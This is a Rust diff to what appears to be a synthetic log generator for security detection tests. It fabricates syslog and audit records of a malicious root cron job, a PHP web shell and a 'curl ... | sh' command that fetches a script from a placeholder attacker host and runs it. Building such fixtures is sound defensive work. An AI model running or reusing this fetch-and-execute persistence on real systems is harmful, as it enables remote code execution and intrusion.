@@ -91,13 +91,13 @@ fn cron_job(lines: &mut Vec<Line>, at: &dyn Fn(i128) -> Timestamp) {
         ("PATH", "item=1 name=\"/etc/cron.d/sysstat2\" inode=131337 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE".to_owned()),
         ("PROCTITLE", "proctitle=746565002F6574632F63726F6E2E642F7379737374617432".to_owned()),
     ]));
-    for minute in 0..3 {
+    for minute in 0..3_u32 {
         let message = format!("(root) CMD (curl -fsSL http://{ATTACKER}/x.sh | sh)");
-        lines.push(syslog(at(540 + minute * 60), "web-1", "syslog", "CRON[21101]", &message));
+        lines.push(syslog(at(540 + i128::from(minute) * 60), "web-1", "syslog", "CRON[21101]", &message));
         let command = format!("curl -fsSL http://{ATTACKER}/x.sh | sh");
         let arguments = ["/bin/sh", "-c", command.as_str()];
         let fetched = Exec { exe: "/usr/bin/dash", arguments: &arguments, auid: 0, uid: 0, cwd: "/root" };
-        lines.extend(exec(at(540 + minute * 60), "web-1", 500_020 + minute.unsigned_abs() as u64, &fetched));
+        lines.extend(exec(at(540 + i128::from(minute) * 60), "web-1", 500_020 + u64::from(minute), &fetched));
     }
 }
 
@@ -106,7 +106,7 @@ fn web_shell(lines: &mut Vec<Line>, at: &dyn Fn(i128) -> Timestamp) {
         let request = format!("POST /uploads/images/cache.php?cmd={command}");
         let shell = Request {
             client: ATTACKER,
-            request: &request,
+            target: &request,
             status: 200,
             size: 512,
             referer: "-",
